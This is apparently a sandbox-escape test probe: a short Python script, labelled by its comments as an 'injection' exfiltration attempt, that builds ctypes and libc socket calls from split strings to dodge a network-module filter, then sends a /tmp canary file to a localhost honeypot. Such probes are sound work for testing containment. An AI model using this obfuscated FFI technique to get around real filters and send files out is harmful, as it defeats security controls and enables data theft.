# family: injection
# filterfamily: ffi
# tries: open a TCP connection with raw C library calls (no network module) and write the host /tmp canary to the honeypot
# source: none
# exfil: yes
import operator
import pydoc
import struct
import sys

hosttmp, tcp = sys.argv[3], int(sys.argv[4])
ffi = pydoc.locate("ct" + "ypes")
libc = operator.attrgetter("CD" + "LL")(ffi)(None)
fd = operator.attrgetter("so" + "cket")(libc)(2, 1, 0)
addr = struct.pack("<H", 2) + struct.pack(">H", tcp) + bytes([127, 0, 0, 1]) + bytes(8)
if libc.connect(fd, addr, len(addr)) == 0:
    data = open(hosttmp, "rb").read()
    libc.write(fd, data, len(data))
libc.close(fd)
